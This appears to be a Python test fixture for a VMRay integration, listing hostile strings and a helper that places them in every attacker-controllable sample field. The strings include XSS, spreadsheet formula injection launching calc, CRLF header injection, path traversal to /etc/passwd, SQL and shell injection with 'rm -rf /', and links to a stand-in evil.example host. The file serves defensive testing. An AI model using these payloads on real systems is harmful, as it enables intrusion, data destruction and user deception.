"""Texts that an attacker could write into VMRay, the platform or a disk."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Mapping

TEXTS: Final[Mapping[str, str]] = {
    "script": "<script>alert(1)</script>",
    "close-script": "</script><script>alert(1)</script>",
    "comment": "<!--<script>",
    "cdata": "]]><![CDATA[<b>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)//",
    "style": "</style></p></ul></h2><style>*{display:none}",
    "double-quote": '" onmouseover="alert(1)',
    "single-quote": "' onmouseover='alert(1)",
    "backtick": "` onmouseover=`alert(1)",
    "typographic-quotes": "“x” ‘y’ «z» ‹a›",  # noqa: RUF001 - the confusable characters are intended
    "entities": "&lt;script&gt;&#60;script&#62;&amp;amp;",
    "backslash": "C:\\new\\table\\u003cscript\\",
    "control": "a\x01b\x08c\x0bd\x0ce\x0ef\x1fg\x7fh\x85i\x9fj",
    "nul": "before\x00after",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b2J",
    "bell": "\x07\x07ding",
    "newline": "first\nDetails:\nother: found",
    "forged-sentence": "x\nSuccessfully enriched the following entities using information from VMRay: y",
    "carriage-return": "visible\rhidden",
    "crlf-header": "x\r\nX-Injected: yes\r\n\r\n<b>",
    "percent-crlf": "x%0d%0aX-Injected:%20yes",
    "vertical": "a\u2028b\u2029c\x0bd",
    "bidi": "invoice\u202efdp.exe\u202c \u2066x\u2069 \u061c",
    "zero-width": "pay\u200bpal\u200c\u200d\u2060\ufeff.example",
    "tags": "a\U000e0041\U000e007fb",
    "variation": "a\ufe0fb\u00adc\u3164d\u034fe\u180ff\u17b4g",
    "rare-format": "a\U0001bca0b\U0001d173c\ufff0d\ufff9e",
    "formula-equals": '=HYPERLINK("http://evil.example","x")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-comma": ",=1+1",
    "formula-hidden": "\u200b=1+1",
    "formula-wide": "＝1+1",  # noqa: RUF001 - the confusable characters are intended
    "separators": "a,b;c\td|e,,,",
    "quoted-cell": 'a","b","c',
    "javascript-url": "javascript:alert(document.cookie)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "url": "http://evil.example/payload.exe?a=b&c=d",
    "url-capitals": "see HTTPS://EVIL.EXAMPLE/ and hTtP://x.example",
    "url-in-text": "cmd /c start https://evil.example/a.exe",
    "url-credentials": "http://user:pass@evil.example@good.example/",
    "template": "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "format": "%s %n {0} {x!r} %(key)s",
    "placeholder": "[VMRay_Scan Hash_1.JsonResult]",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] [/b]",
    "markdown": "[x](javascript:alert(1)) ![y](http://evil.example/p.png) **z** `c` # h",
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\..\\Windows\\System32",
    "query": "x?y=z&a=b#c;d=/..;/",
    "sql": "'; DROP TABLE cases; --",
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | & > x",
    "prototype": "__proto__",
    "json": '"},{"Entity":"FORGED","EntityResult":{}}],[{"x":"',
    "emoji": "👩‍👩‍👧 💥",
    "combining": "Z\u0351\u036b\u0343a\u0300l\u0301go" * 20,
    "surrogate": "half\ud800pair",
    "surrogate-low": "\udfff=1",
    "only-invisible": "\u200b\u200b\n",
    "long": "A" * 100_000,
    "long-words": "lorem <i>ipsum</i>, " * 5_000,
}
"""Each hostile text by its name."""

EVERYTHING: Final = " ".join(text for name, text in TEXTS.items() if not name.startswith("long"))


def sample_with(text: str) -> dict[str, Any]:
    """Return a sample for `add_sample` that has the text in every field an attacker can influence."""
    named = {
        "domains": {"domain": text, "original_domains": [text], "protocols": [text]},
        "emails": {"sender": text, "subject": text, "recipients": [text, text], "email": text},
        "files": {
            "filename": text,
            "filenames": [text],
            "categories": [text],
            "operations": [text],
            "hashes": [],
        },
        "ips": {"ip_address": text, "protocols": [text], "country": text},
        "mutexes": {"mutex_name": text, "operations": [text]},
        "processes": {"cmd_line": text, "process_names": [text], "image_names": [text]},
        "registry": {"reg_key_name": text, "operations": [text]},
        "urls": {"url": text, "original_urls": [text], "categories": [text], "user_agents": [text]},
    }
    return {
        "iocs": {kind: [{"value": "x", **fields}] for kind, fields in named.items()},
        "indicators": [{"category": text, "operation": text, "score": 5, "classifications": [text]}],
        "classifications": [text, text],
        "threat_names": [text],
        "sample_filename": text,
        "sample_type": text,
        "sample_display_url": text,
        "sample_verdict_reason_description": text,
        "sample_container_type": text,
        "sample_imphash": text,
    }
